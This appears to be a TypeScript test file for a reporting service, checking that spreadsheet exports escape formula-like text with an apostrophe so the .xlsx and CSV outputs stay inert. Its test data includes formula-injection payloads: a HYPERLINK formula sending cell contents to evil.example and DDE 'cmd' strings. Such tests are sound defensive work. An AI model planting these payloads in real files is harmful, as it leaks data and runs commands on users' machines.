import { execFile } from 'node:child_process';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import ExcelJS from 'exceljs';
import { startApi, TestApi } from '../support/harness';
import { asBuffer, loadLedger } from '../support/reports';

/**
 * Exports are safe to re-save (issue 13, point 5): text that a spreadsheet
 * would take for a formula is written with a leading apostrophe, so that
 * neither the .xlsx nor a CSV saved from it runs anything; the sheet's header
 * note says so.
 */
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd', '-2+3+cmd|calc'];

async function csvOfEverySheet(xlsx: Buffer): Promise<string> {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'pl-formula-'));
  try {
    const input = path.join(dir, 'report.xlsx');
    await writeFile(input, xlsx);
    // LibreOffice's CSV filter: comma, double quote, UTF-8, every sheet to a file of its own (-1).
    await promisify(execFile)(
      'soffice',
      [`-env:UserInstallation=file://${dir}/profile`, '--headless', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1', '--outdir', dir, input],
      { timeout: 240_000 },
    );
    const files = (await readdir(dir)).filter((f) => f.endsWith('.csv'));
    return (await Promise.all(files.map((f) => readFile(path.join(dir, f), 'utf8')))).join('\n');
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

describe('formula-like text in exports', () => {
  let api: TestApi;
  let xlsx: Buffer;

  beforeAll(async () => {
    api = await startApi();
    await loadLedger(
      api,
      'daxiang',
      HOSTILE.map((title, i) => ({ channel: '人民日报', title, publishedOn: `2021-05-1${i}`, authors: ['=1+1'] })),
    );
    xlsx = (await asBuffer(api.http().get('/api/orgs/daxiang/reports/monthly').query({ month: '2021-05', format: 'xlsx' })).expect(200)).body as Buffer;
  }, 120_000);
  afterAll(async () => {
    await api.close();
  });

  it('the Excel report writes each with a leading apostrophe, as text, and its header note says so', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('重点稿件')!;
    const cells: { value: unknown; formula: unknown }[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => cells.push({ value: cell.value, formula: cell.formula })));
    for (const title of HOSTILE) expect(cells).toContainEqual({ value: `'${title}`, formula: undefined });
    expect(cells.filter((c) => c.value === "'=1+1")).toHaveLength(HOSTILE.length);
    expect(cells.every((c) => c.formula === undefined)).toBe(true);
    expect(String(sheet.getCell('A2').value)).toContain("注：以 = + - @ 或制表符开头的文字前加了 '");
    // A sheet without such text carries no note.
    expect(String(wb.getWorksheet('本月统计')!.getCell('A2').value ?? '')).not.toContain('注：');
  });

  it('saved as CSV by LibreOffice, every such cell still starts with the apostrophe', async () => {
    const text = await csvOfEverySheet(xlsx);
    for (const title of HOSTILE) expect(text).toContain(`'${title.split('"')[0]}`);
    // No line of the CSV starts a cell with a bare formula character.
    for (const line of text.split(/\r?\n/)) expect(line).not.toMatch(/(^|,)"?[=+@]/);
  }, 240_000);
});
